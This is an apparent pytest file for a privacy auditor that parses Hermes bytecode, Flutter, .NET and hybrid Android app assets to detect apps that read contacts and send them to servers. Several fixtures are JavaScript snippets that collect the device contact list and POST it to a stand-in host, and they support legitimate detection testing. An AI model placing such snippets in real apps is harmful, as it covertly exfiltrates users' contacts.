"""Texts of Hermes bytecode, Dart snapshots, .NET assemblies and native libraries."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from auditor.catalog import Catalog
from auditor.facts.hybrid import blobs
from auditor.facts.hybrid.dotnet import lz4_block, texts_in
from auditor.facts.hybrid.read import HybridFacts, read_hybrid
from auditor.model import Level
from tests.facts_fixture import FakeCode, manifest, package

CATALOG = Catalog()
HERE = Path(__file__).parent
RN = FakeCode(["Lcom/facebook/react/A;"])


def hermes(strings: list[str], version: int = 96) -> bytes:
    """Hermes bytecode without functions: header, string table and storage."""
    storage, entries, overflow = b"", b"", b""
    for text in strings:
        wide = not text.isascii()
        raw = text.encode("utf-16-le" if wide else "ascii")
        offset, length = len(storage), len(text)
        if length > 254:
            overflow += struct.pack("<II", offset, length)
            offset, length = len(overflow) // 8 - 1, 255
        entries += struct.pack("<I", wide | offset << 1 | length << 24)
        storage += raw
    counts = (0, 0, 0, 1, 0, len(strings), len(overflow) // 8, len(storage))
    head = blobs.HERMES_MAGIC + struct.pack("<I20s8I", version, b"", *counts)
    kinds = struct.pack("<I", len(strings))
    return head.ljust(128, b"\0") + kinds + entries + overflow + storage


def read(files: dict[str, bytes], code: FakeCode = RN) -> HybridFacts:
    return read_hybrid(package(files, manifest("com.a.b")), code, CATALOG)


def test_hermes_strings() -> None:
    long = "x" * 300
    found = blobs.read_hermes(hermes(["https://a.example", "联系人", long]))
    assert found is not None
    assert (found.version, [s.text for s in found.strings]) == (
        96,
        ["https://a.example", "联系人", long],
    )
    assert found.strings[0].offset == 128 + 4 + 12 + 8


@pytest.mark.parametrize("version", [76, 84, 89, 94, 96, 98, 99])
def test_bytecode_of_real_compilers(version: int) -> None:
    """`hermes_data/` holds one script as several releases of hermesc compiled it."""
    data = (HERE / "hermes_data" / f"{version}.hbc").read_bytes()
    read_back = blobs.read_hermes(data)
    assert read_back is not None
    assert (read_back.version, read_back.functions) == (version, 4)
    texts = {s.text for s in read_back.strings}
    assert texts >= {"contact_display_name", "phoneNumbers", "联系人", "globalThis", "onAgree"}
    found = read({"assets/index.android.bundle": data})
    assert [f.endpoint for f in found.flows] == ["https://api.jisudai.example/user/phoneBook/save"]
    assert [r.site.signature for r in found.reads] == ["NativeModules.Contacts.getAll"]


@pytest.mark.parametrize("cut", [0, 7, 8, 60, 127, 130, 150])
def test_damaged_hermes_gives_no_string(cut: int) -> None:
    found = blobs.read_hermes(hermes(["https://a.example"] * 3)[:cut])
    assert found is None or found.strings == ()


def test_hermes_bundle_links_what_speaks_of_contacts() -> None:
    data = hermes(
        [
            "NativeModules",
            "Contacts",
            "getAll",
            "https://api.a.example",
            "/user/phoneBook",
            "/login",
        ]
    )
    found = read({"assets/index.android.bundle": data})
    assert [(r.data_type, r.level, r.site.signature) for r in found.reads] == [
        ("contacts", Level.REFERENCED, "NativeModules.Contacts.getAll")
    ]
    assert [(f.level, f.endpoint, f.sink.offset) for f in found.flows] == [
        (Level.LINKED, "https://api.a.example/user/phoneBook", data.index(b"/user/phoneBook"))
    ]
    assert [e.url for e in found.endpoints] == ["https://api.a.example"]
    assert [(x.kind, x.where) for x in found.limits] == [("hybrid", "assets/index.android.bundle")]
    assert "Hermes bytecode (version 96)" in found.limits[0].why


def test_hermes_without_such_a_path_is_not_linked() -> None:
    data = hermes(["NativeModules", "Contacts", "getAll", "https://api.a.example", "/login"])
    assert read({"assets/index.android.bundle": data}).flows == ()


DART = b"\x7fELF\0package:flutter_contacts/x.dart\0package:dio/dio.dart\0https://d.example/api\0/c/addressBook/up\0"


def flutter(code: FakeCode, data: bytes = DART) -> HybridFacts:
    return read(
        {"lib/arm64-v8a/libapp.so": data, "lib/x86/libapp.so": data, "lib/x86/libflutter.so": b""},
        code,
    )


def test_flutter_plugin_needs_its_dex_side() -> None:
    found = flutter(FakeCode(["Lco/quis/flutter_contacts/FlutterContactsPlugin;"]))
    assert [(r.data_type, r.site.caller, r.site.offset) for r in found.reads] == [
        ("contacts", "lib/arm64-v8a/libapp.so", 5)
    ]
    assert [f.endpoint for f in found.flows] == ["https://d.example/api/c/addressBook/up"]
    alone = flutter(FakeCode())
    assert (alone.reads, alone.flows) == ((), ())
    assert [e.url for e in alone.endpoints] == ["https://d.example/api"]


def test_native_library_of_the_app_and_of_a_library() -> None:
    data = b"\x7fELF" + b"\0" * 20 + b"https://n.example/k\0http://schemas.android.com/x\0"
    found = read({"lib/arm64-v8a/libown.so": data, "lib/arm64-v8a/libtongdun.so": data}, FakeCode())
    assert [(e.url, e.owner, e.call_sites[0].offset) for e in found.endpoints] == [
        ("https://n.example/k", "app", 24),
        ("https://n.example/k", "tongdun", 24),
    ]


def lz4(data: bytes) -> bytes:
    """One block of literals only."""
    rest = len(data) - 15
    return bytes([0xF0]) + b"\xff" * (rest // 255) + bytes([rest % 255]) + data


def test_dotnet_strings_in_a_compressed_store() -> None:
    plain = (
        b"MZ"
        + "https://m.example/api".encode("utf-16-le")
        + b"\0\0ContactsContract\0"
        + b"\0" * 400
    )
    blob = b"XABA" + b"\0" * 12 + b"XALZ" + struct.pack("<II", 0, len(plain)) + lz4(plain)
    texts, limits = texts_in(blob, "x")
    assert {t.text for t in texts} >= {"https://m.example/api", "ContactsContract"}
    assert limits == ()
    found = read({"assemblies/assemblies.blob": blob}, FakeCode(["Lmono/MonoRuntimeProvider;"]))
    assert [r.rule for r in found.reads] == ["dotnet_contacts_contract"]
    assert [e.url for e in found.endpoints] == ["https://m.example/api"]


@pytest.mark.parametrize(
    ("block", "size", "expected"),
    [
        (bytes([0x10]) + b"a" + b"\x01\x00", 6, None),
        (bytes([0x12]) + b"a" + b"\x01\x00", 7, b"aaaaaaa"),
        (bytes([0x30]) + b"abc", 3, b"abc"),
        (bytes([0x00]) + b"\x01\x00", 4, None),
        (bytes([0xF0]) + b"\xff" * 10, 4000, None),
        (b"", 4, None),
    ],
)
def test_lz4(block: bytes, size: int, expected: bytes | None) -> None:
    assert lz4_block(block, size) == expected


def test_split_is_named_and_encrypted_script_is_a_limit() -> None:
    script = b"navigator.contacts.find(['*'],function(c){fetch('https://a.example/x',{body:c})});"
    held = package(
        {"assets/www/e.js": b"\x00\x01\x02encrypted"},
        manifest("com.a.b"),
        extra={("split_h5.apk", "assets/www/a.js"): script},
    )
    found = read_hybrid(held, FakeCode(), CATALOG)
    assert [f.source.caller for f in found.flows] == ["split_h5.apk!/assets/www/a.js"]
    assert [(x.kind, x.where) for x in found.limits] == [("hybrid", "assets/www/e.js")]


@pytest.mark.parametrize(("named", "count"), [(True, 1), (False, 0)])
def test_bridge_read_needs_a_method_of_that_name_in_dex(named: bool, count: int) -> None:
    page = (
        b"window.app.getContacts(function(c){fetch('https://a.example/x',{method:'POST',body:c})});"
    )
    code = FakeCode(strings={"getContacts": []} if named else {})
    found = read({"assets/h5/a.js": page}, code)
    assert (len(found.reads), len(found.flows)) == (count, count)


def test_start_page_on_a_server_is_a_limit_and_an_endpoint() -> None:
    config = b'{"appId": "a", "server": {"url": "https://h5.example/app"}}'
    found = read({"assets/capacitor.config.json": config}, FakeCode())
    assert [(e.url, e.note) for e in found.endpoints] == [
        ("https://h5.example/app", "the page the app starts with")
    ]
    assert [(x.kind, x.where) for x in found.limits] == [("hybrid", "assets/capacitor.config.json")]


@pytest.mark.parametrize("config", [b"", b"{", b"[" * 100_000, b'{"server": []}', b'"x"', b"\xff"])
def test_hostile_configuration_names_no_page(config: bytes) -> None:
    found = read({"assets/capacitor.config.json": config}, FakeCode())
    assert (found.endpoints, found.limits) == ((), ())


def test_updates_and_hidden_names_are_limits() -> None:
    script = b"plus.runtime.install(p);" + b"var _0x3f2a=1;" * 300
    found = read({"assets/apps/__UNI__1/www/a.js": script}, FakeCode())
    assert [(x.kind, x.where) for x in found.limits] == [
        ("dynamic_code", "assets/apps/__UNI__1/www/a.js"),
        ("obfuscated", "assets/apps/__UNI__1/www/a.js"),
    ]
